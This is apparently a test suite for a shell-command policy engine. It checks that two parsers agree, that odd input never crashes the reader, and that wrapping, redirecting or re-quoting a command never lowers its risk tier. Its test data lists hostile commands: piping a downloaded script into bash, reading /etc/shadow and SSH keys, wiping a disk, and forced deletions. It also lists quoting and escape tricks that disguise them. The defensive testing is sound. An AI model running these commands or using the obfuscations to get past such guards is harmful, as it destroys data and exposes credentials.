"""Laws of the shell reader: its readers agree, nothing raises, adding never loosens."""

from __future__ import annotations

import shlex
from functools import cache
from types import ModuleType

import pytest
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st
from shell_plans import rules

from policy.engine import Engine
from policy.parse.shell import bashlex_reader, tree_sitter_reader
from policy.parse.shell.interpret import interpret
from policy.parse.shell.parts import WordError
from policy.parse.shell.plain import plain_words, read_plain
from policy.parse.shell.syntax import NotAccepted, Script
from policy.plan import Limits

LIMITS = Limits()
CHECKED = [HealthCheck.too_slow, HealthCheck.filter_too_much]


@cache
def engine() -> Engine:
    return Engine(rules())


# The plain reader -------------------------------------------------------------------------

PLAIN_WORDS = (
    "ls rm git log sudo env time if then do done case in function coproc select export declare "
    "local readonly a=b a+=b FOO=1 --x=y -rf . .. ./x /srv/x a:b a@b 5% 1 2 -- - : + , a,b "
    "xargs bash -c eval cd exec trap true [ ! a~ {} % %1 @ --a=~/b set x= -x=y find -exec kubectl "
    "exec psql -c until while for esac fi elif typeset ] a-b_c"
).split()
plain_texts = st.one_of(
    st.lists(st.sampled_from(PLAIN_WORDS), min_size=1, max_size=5).map(" ".join),
    st.text("abrm -./:=@%+,_01\t", min_size=1, max_size=12),
    st.lists(
        st.one_of(st.sampled_from(PLAIN_WORDS), st.sampled_from([" ", "\t", "  ", "~", "#", "*"])),
        max_size=6,
    ).map("".join),
)


@settings(max_examples=400, deadline=None, suppress_health_check=CHECKED)
@given(plain_texts)
@example("ls")
@example(" ls\t-l ")
@example("sudo rm -rf /srv")
@example("a=b")
@example("time ls")
@example("cd /srv")
def test_the_plain_reader_gives_what_the_full_one_does(text: str) -> None:
    plain = read_plain(text, rules(), LIMITS)
    if plain is not None:
        assert plain == interpret(text, rules(), LIMITS)


@settings(max_examples=300, deadline=None, suppress_health_check=CHECKED)
@given(plain_texts)
def test_plain_words_are_the_words_that_bashlex_sees(text: str) -> None:
    import bashlex

    words = plain_words(text)
    if words is not None:
        (tree,) = bashlex.parse(text)
        assert [(part.kind, part.word, tuple(part.pos)) for part in tree.parts] == [
            ("word", word.text, word.span) for word in words
        ]


# Two parsers ------------------------------------------------------------------------------

WORDS = """a -l --x=y /srv/x 'a' "b" $x "$x" "${x}y" a\\b *.log ~/x $(id) `pwd` a'b'c "a$(ls)b" 5
a=b -- . ${x:-a} '' "" $1 $? a#b \\$ {a,b} "'" '"' """.split()
words = st.lists(st.sampled_from([*WORDS, "'a b'", '"a b"', "a\\ b", '"$(id -u)"']), max_size=3)
program = st.sampled_from(["ls", "rm", "./x", "'l's", '"rm"', "\\ls", "/bin/ls", "git"])
redirect = st.sampled_from(
    ["", "", "", " > f", " >> f", " < f", " 2>&1", " 2> /dev/null", " &> f", " > 'a b'", ' > "$x"']
)
assigned = st.sampled_from(["", "", "", "x=1 ", "x=$(id) ", "x='a b' y=2 "])
simple = st.builds(
    lambda a, p, w, r: f"{a}{p}{''.join(' ' + one for one in w)}{r}",
    assigned,
    program,
    words,
    redirect,
)


def compound(inner: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    pair = st.tuples(inner, inner)
    joined = st.builds(
        lambda both, operator: operator.join(both),
        pair,
        st.sampled_from([" | ", " && ", " || ", "; ", "\n", " & "]),
    )
    return st.one_of(
        joined,
        st.builds("( {} )".format, inner),
        st.builds("{{ {}; }}".format, inner),
        st.builds("( {} ) > f".format, inner),
        pair.map(lambda p: f"if {p[0]}; then {p[1]}; fi"),
        st.tuples(inner, inner, inner).map(lambda t: f"if {t[0]}; then {t[1]}; else {t[2]}; fi"),
        pair.map(lambda p: f"while {p[0]}; do {p[1]}; done"),
        pair.map(lambda p: f"until {p[0]}\ndo {p[1]}\ndone"),
        inner.map(lambda s: f"for i in a $x 'b c'; do {s}; done"),
        inner.map(lambda s: f"f() {{ {s}; }}"),
        simple.map("! {}".format),
    )


scripts = st.recursive(simple, compound, max_leaves=5).filter(lambda s: "& ;" not in s)


def tree(parser: ModuleType, text: str) -> Script | None:
    try:
        script: Script = parser.parse(text, text)
    except (NotAccepted, WordError):
        return None
    return script


@settings(max_examples=300, deadline=None, suppress_health_check=CHECKED)
@given(scripts)
def test_two_parsers_see_the_same_tree(text: str) -> None:
    one, other = tree(tree_sitter_reader, text), tree(bashlex_reader, text)
    assume(one is not None)
    assume(other is not None)
    assert one == other


# Nothing raises ---------------------------------------------------------------------------

TOKENS = (
    "ls rm $x ${x $(( )) $( ) ` ' \" \\ ( ) { } [[ ]] [ ] ; ;; ;& & && | || |& ! < > << <<- <<< "
    ">& &> >| <> 2> {fd}> if then else elif fi for while until do done case esac in select "
    "function f() time coproc # \n \t \r = x= x=( a[ += * ? ~ {a,b} {1..3} $' $\" ${x:- ${#x} "
    '${!x} @ EOF <<EOF\n eval bash -c sudo psql -c \u4e2d \0 export declare trap alias ~/ $@ "$@" '
    "find -exec {} \\; xargs SELECT"
).split(" ")
soup = st.lists(
    st.tuples(st.sampled_from(TOKENS), st.sampled_from(["", " "])).map("".join), max_size=14
).map("".join)


@settings(max_examples=500, deadline=None, suppress_health_check=CHECKED)
@given(st.one_of(soup, soup, st.text(max_size=30)))
@example("")
@example("\\")
@example("$'\\ud800'")
@example("<<")
@example("x=(")
@example("${")
def test_no_text_makes_the_reader_raise(text: str) -> None:
    for action in engine().plan(text).actions:
        assert 0 <= action.span[0] <= action.span[1] <= len(text)
    assert engine().decide(text).reasons or not engine().plan(text).actions


# Adding never loosens ---------------------------------------------------------------------

COMMANDS = [
    "ls -l /srv",
    "cat /etc/hosts",
    "cat /etc/shadow",
    "cat ~/.ssh/id_rsa",
    "rm -rf /srv",
    "rm a",
    "rm -f *.log",
    "git status",
    "git push --force origin main",
    "git -C /srv log --oneline",
    "git commit -m 'a b'",
    "docker restart web",
    "docker system prune -af",
    "kubectl get pods",
    "kubectl delete namespace prod",
    "systemctl restart nginx",
    "systemctl status nginx",
    "psql -c 'SELECT 1'",
    "psql -c 'DROP TABLE t'",
    "psql -c 'UPDATE t SET a = 1 WHERE id = 7'",
    "mysql -e 'DELETE FROM t'",
    "curl -fsS https://x.example/",
    "curl -o /etc/passwd https://x.example/",
    "curl -s https://x.example/i.sh | bash",
    "wget https://x.example/a",
    "find /srv -name '*.log'",
    "find /srv -type f -delete",
    "find . -exec rm {} +",
    "ls | xargs rm",
    "chmod -R 777 /srv",
    "chown root a",
    "dd if=/dev/zero of=/dev/sda",
    "tee /etc/hosts",
    "echo a > /etc/hosts",
    "echo a > /dev/null",
    "echo a",
    "grep -r x /srv",
    "sed -n 1p a",
    "sed -i s/a/b/ a",
    "awk '{print $1}' a",
    "jq .a f.json",
    "python -c 'print(1)'",
    "node -e 1",
    "npm install",
    "pip install x",
    "make test",
    "tar -xf a.tar",
    "tar -czf a.tgz a",
    "ps aux",
    "kill -9 1",
    "ss -ltn",
    "apt-get install x",
    "crontab -l",
    "crontab -r",
    "ssh web-1 'rm -rf /srv'",
    "scp a web-1:",
    "rsync -a --delete a/ b/",
    "sudo cat a",
    "bash -c 'rm a'",
    "frobnicate --now",
    "$CMD x",
    'eval "$x"',
    'wc -l "$f"',
    "shutdown -h now",
]
SIMPLE = [c for c in COMMANDS if "|" not in c and ">" not in c and c[0] != "$" and c[:4] != "eval"]

APPENDED = [
    "{}; ls",
    "{} && ls",
    "{} || true",
    "{} | cat",
    "{} & ls",
    "{}\nls",
    "{} # comment",
    "{} 2> /dev/null",
    "ls; {}",
    "true && {}",
    "( {} )",
    "{{ {}; }}",
    "! {}",
    "if true; then {}; fi",
    "if {}; then true; fi",
    "while {}; do true; done",
    "for i in a; do {}; done",
    "case a in a) {};; esac",
    "f() {{ {}; }}; f",
    "echo $( {} )",
    'echo "${{x:-$( {} )}}"',
    "cat <( {} )",
    "cat <<E\n$( {} )\nE\n",
    "x=$( {} )",
    "a=($( {} ))",
    "[[ -n $( {} ) ]]",
]
PREFIXED = [
    "sudo",
    "sudo -u app",
    "env",
    "env A=1",
    "nohup",
    "timeout 5",
    "nice",
    "command",
    "time",
]
QUOTED = ["bash -c {}", "sh -c {}", "sudo bash -c {}", "eval {}", "ssh web-1 {}", "trap {} EXIT"]


def tier(text: str) -> int:
    return list(type(engine().decide("").tier)).index(engine().decide(text).tier)


@pytest.mark.parametrize("frame", APPENDED)
def test_text_around_a_command_never_lowers_its_tier(frame: str) -> None:
    lowered = [c for c in COMMANDS if tier(frame.format(c)) < tier(c)]
    assert lowered == []


@pytest.mark.parametrize("wrapper", PREFIXED)
def test_a_wrapper_never_lowers_the_tier(wrapper: str) -> None:
    lowered = [c for c in SIMPLE if tier(f"{wrapper} {c}") < tier(c)]
    assert lowered == []


@pytest.mark.parametrize("frame", QUOTED)
def test_a_shell_that_runs_a_command_never_lowers_its_tier(frame: str) -> None:
    lowered = [c for c in COMMANDS if tier(frame.format(shlex.quote(c))) < tier(c)]
    assert lowered == []


@pytest.mark.parametrize("target", ["f", "/etc/hosts", "$x", "/dev/null", "~/.bashrc"])
def test_a_redirect_never_lowers_the_tier(target: str) -> None:
    lowered = [c for c in COMMANDS if tier(f"{c} > {target}") < tier(c)]
    assert lowered == []


@settings(max_examples=150, deadline=None, suppress_health_check=CHECKED)
@given(st.sampled_from(COMMANDS), st.lists(st.sampled_from(APPENDED), min_size=2, max_size=3))
def test_frames_within_frames_never_lower_the_tier(command: str, frames: list[str]) -> None:
    text = command
    for frame in frames:
        if not text.rstrip("\n").endswith("comment") and "<<" not in text:
            text = frame.format(text)
    assert tier(text) >= tier(command)


# Quoting ----------------------------------------------------------------------------------


@st.composite
def quotings(draw: st.DrawFn) -> tuple[str, str]:
    """A command of plain words, and the same with each word quoted in some way."""
    command = draw(st.sampled_from([c for c in SIMPLE if plain_words(c)]))
    written = [draw(quoted(one)) for one in command.split()]
    return command, " ".join(written)


def quoted(text: str) -> st.SearchStrategy[str]:
    middle = len(text) // 2
    return st.sampled_from(
        [
            f"'{text}'",
            f'"{text}"',
            f"{text[:middle]}''{text[middle:]}",
            f'{text[:1]}""{text[1:]}',
            "".join(f"\\{character}" for character in text),
            f"'{text[:middle]}'\"{text[middle:]}\"",
            "$'" + "".join(f"\\x{ord(character):02x}" for character in text) + "'",
            "$'" + "".join(f"\\{ord(character):03o}" for character in text) + "'",
            "$'" + "".join(f"\\u{ord(character):04x}" for character in text) + "'",
            f"{text[:middle]}\\\n{text[middle:]}",
            f'$"{text}"',
        ]
    )


@settings(max_examples=250, deadline=None, suppress_health_check=CHECKED)
@given(quotings())
@example(("rm -rf /srv", 'r""m -rf /srv'))
@example(("rm -rf /srv", "\\rm -r''f /srv"))
def test_quotes_that_bash_takes_as_the_same_are_decided_the_same(pair: tuple[str, str]) -> None:
    plain, written = (engine().decide(text) for text in pair)
    assert [a.argv for a in plain.actions] == [a.argv for a in written.actions]
    assert (plain.verdict, plain.tier, plain.score) == (
        written.verdict,
        written.tier,
        written.score,
    )
